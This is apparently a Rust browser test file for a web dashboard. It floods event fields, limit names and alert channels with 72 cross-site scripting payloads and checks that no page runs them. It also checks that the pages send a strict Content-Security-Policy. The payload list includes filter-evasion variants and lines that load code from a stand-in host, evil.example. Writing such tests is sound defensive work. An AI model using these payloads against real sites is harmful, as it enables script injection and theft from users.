//! Scripts in everything that somebody else writes, on every page, in a real browser: none of them may run, and none may
//! even be tried, which the browser would complain of.

use reqwest::Method;
use serde_json::{Value, json};

use crate::given;
use crate::harness::browser::{Look, Page, browse};
use crate::harness::receiver::Receiver;
use crate::harness::tacho::Tacho;
use crate::interface::PAGES;

/// What would set `hacked` where it is taken for markup, for a script, for an address or for a style.
const PAYLOADS: [&str; 72] = [
    "<script>hacked=1</script>",
    "<SCRIPT>hacked=1</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<script>hacked=1",
    "</script><script>hacked=1</script>",
    "</title><script>hacked=1</script>",
    "</textarea><script>hacked=1</script>",
    "</style><script>hacked=1</script>",
    "--><script>hacked=1</script>",
    "]]><script>hacked=1</script>",
    "<!--<script>-->hacked=1</script>",
    "<scr<script>ipt>hacked=1</scr</script>ipt>",
    "<script\n>hacked=1</script\n>",
    "<script/x>hacked=1</script>",
    "\"><script>hacked=1</script>",
    "'><script>hacked=1</script>",
    "`><script>hacked=1</script>",
    "<img src=x onerror=hacked=1>",
    "<img src=x onerror=\"hacked=1\">",
    "<img src=x onerror='hacked=1'>",
    "<img/src=x/onerror=hacked=1>",
    "<img src=x:x onerror=hacked=1//",
    "<image href=x onerror=hacked=1>",
    "\"><img src=x onerror=hacked=1>",
    "'><img src=x onerror=hacked=1>",
    "\" onerror=hacked=1 x=\"",
    "' onmouseover='hacked=1",
    "\" autofocus onfocus=hacked=1 x=\"",
    "\" style=animation-name:x onanimationstart=hacked=1 x=\"",
    "<svg onload=hacked=1>",
    "<svg/onload=hacked=1>",
    "<svg><script>hacked=1</script></svg>",
    "<svg><animate onbegin=hacked=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hacked=1><text y=9>x</text></a></svg>",
    "<svg><foreignObject><script>hacked=1</script></foreignObject></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=hacked=1>",
    "<body onload=hacked=1>",
    "<iframe src=javascript:hacked=1></iframe>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<object data=javascript:hacked=1></object>",
    "<embed src=javascript:hacked=1>",
    "<details open ontoggle=hacked=1>",
    "<input autofocus onfocus=hacked=1>",
    "<select autofocus onfocus=hacked=1>",
    "<video><source onerror=hacked=1></video>",
    "<audio src=x onerror=hacked=1></audio>",
    "<marquee onstart=hacked=1>",
    "<form><button formaction=javascript:hacked=1>x</button></form>",
    "<a href=javascript:hacked=1>x</a>",
    "<a href=\"jav&#x09;ascript:hacked=1\">x</a>",
    "javascript:hacked=1",
    "JaVaScRiPt:hacked=1",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+hacked=1//'>",
    "data:text/html,<script>parent.hacked=1</script>",
    "vbscript:hacked=1",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:hacked=1>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<style>@import '//evil.example/x.css'</style>",
    "<template><script>hacked=1</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=hacked=1>\">",
    "&lt;script&gt;hacked=1&lt;/script&gt;",
    "&#60;script&#62;hacked=1&#60;/script&#62;",
    "%3Cscript%3Ehacked=1%3C/script%3E",
    "\\u003cscript\\u003ehacked=1\\u003c/script\\u003e",
    "\\x3cscript\\x3ehacked=1",
    "{{constructor.constructor('hacked=1')()}}",
    "${hacked=1}",
    "';hacked=1;//",
    "\";hacked=1;//",
    "\u{2028}hacked=1//\u{2029}",
];

/// Every text of an event that somebody else chooses.
const FIELDS: [&str; 10] = [
    "model",
    "project",
    "feature",
    "user",
    "session",
    "api_key",
    "workspace",
    "organization",
    "endpoint",
    "stop_reason",
];

const DIMENSIONS: [&str; 7] = ["model", "project", "feature", "user", "api_key", "workspace", "organization"];

fn event(number: usize, payload: &str) -> Value {
    let mut event = given::event(&format!("{number}"), 10_000, 10);
    for field in FIELDS {
        event[field] = payload.into();
    }
    let headers = json!({
        "anthropic-organization-id": payload, "anthropic-ratelimit-requests-limit": "50",
        "anthropic-ratelimit-requests-remaining": "5", "anthropic-ratelimit-requests-reset": payload,
    });
    let error = json!({ "type": payload, "message": payload, "details": { "error_code": payload } });
    let event = given::with(event, "error", error);
    given::with(given::with(event, "labels", json!({ "a": payload })), "headers", headers)
}

/// Asserts that a page ran nothing, loaded nothing and tried nothing.
async fn is_unharmed(page: &Page, what: &str) {
    let state = "return [window.hacked ?? 0, document.querySelectorAll('main script, main iframe, main object, \
                 main embed, main img, base, [onerror], [onload], [onfocus]').length, location.host]";
    let state = page.script(state).await;
    assert_eq!((&state[0], &state[1]), (&json!(0), &json!(0)), "{what}");
    assert_eq!(page.complaints().await, Vec::<String>::new(), "{what}");
}

#[tokio::test]
async fn no_script_runs_that_somebody_else_wrote() {
    let mut receiver = Receiver::start().await;
    let tacho = Tacho::now().await;
    tacho.channel(&receiver).await;
    for payload in PAYLOADS {
        tacho
            .limit_of(&json!({ "name": payload, "kind": "tokens_per_day", "amount": 1,
                               "scope": { "dimension": "user", "value": payload } }))
            .await;
    }
    let events: Value = PAYLOADS.iter().enumerate().map(|(number, payload)| event(number, payload)).collect();
    let posted = tacho.reporter.post("/v1/events", &events).await;
    assert_eq!(posted.status, 200, "{}", posted.text);
    while receiver.next().await.kind() != "limit.critical" {}
    // After the alerts, so that nobody waits for receivers that are not there.
    for payload in PAYLOADS {
        let channel = json!({ "name": payload, "url": format!("http://127.0.0.1:9/{payload}") });
        let added = tacho.admin.post("/v1/channels", &channel).await;
        assert_eq!(added.status, 201, "{payload}: {}", added.text);
    }
    browse(Look::default(), async |page| {
        page.open(&tacho.sign_in_link().await).await;
        for (_, path) in PAGES {
            page.open(&format!("{}{path}", tacho.base_url())).await;
            page.alive().await;
            is_unharmed(page, path).await;
            // Nor where the page is made like another answer, piece by piece.
            page.beat().await;
            is_unharmed(page, path).await;
        }
        page.open(&format!("{}/settings/access", tacho.base_url())).await;
        page.text_with("#audit", "Audit log").await;
        assert!(page.count(".audit li").await > PAYLOADS.len());
        // As many at a time as a table has rows.
        for (number, payloads) in PAYLOADS.chunks(8).enumerate() {
            let by = DIMENSIONS[number % DIMENSIONS.len()];
            let mut query = url::form_urlencoded::Serializer::new(String::new());
            query.append_pair("by", by).append_pair("measure", payloads[0]);
            payloads.iter().for_each(|payload| {
                query.append_pair(by, payload);
            });
            page.open(&format!("{}/?{}", tacho.base_url(), query.finish())).await;
            page.alive().await;
            page.element(".chips").await;
            assert!(page.count(".sums tbody tr").await >= 2 * payloads.len(), "{by}: {payloads:?}");
            is_unharmed(page, &format!("{by}: {payloads:?}")).await;
        }
    })
    .await;
    println!("{} payloads in {} places", PAYLOADS.len(), FIELDS.len() + 9);
}

#[tokio::test]
async fn pages_hold_no_script_of_their_own_and_may_run_none() {
    let tacho = Tacho::at_noon().await;
    tacho.reporter.report(&given::event("a", 1, 1)).await;
    let (anybody, cookie) = tacho.signed_in().await;
    for (name, path) in PAGES {
        let headers = [("cookie", cookie.as_str()), ("accept", "text/html")];
        let page = anybody.send(Method::GET, path, &headers, Vec::new()).await;
        let policy = page.header("content-security-policy");
        let scripts = policy.split("; ").find(|part| part.starts_with("script-src")).unwrap_or_default();
        assert_eq!(scripts, "script-src 'self' 'wasm-unsafe-eval'", "{name}");
        assert!(
            policy.contains("default-src 'none'") && !policy.contains("unsafe-inline"),
            "{name}: {policy}"
        );
        let own = page.text.match_indices("<script").map(|(at, _)| &page.text[at..]);
        let inline =
            own.filter(|script| !script.contains(" src=\"/assets/") || !script.contains("></script>"));
        assert_eq!(inline.count(), 0, "{name}");
        assert!(page.text.matches("<script").count() <= 1, "{name}");
        for attribute in [" style=", " onclick=", " onload=", "javascript:"] {
            assert!(!page.text.contains(attribute), "{name} holds {attribute}");
        }
    }
}
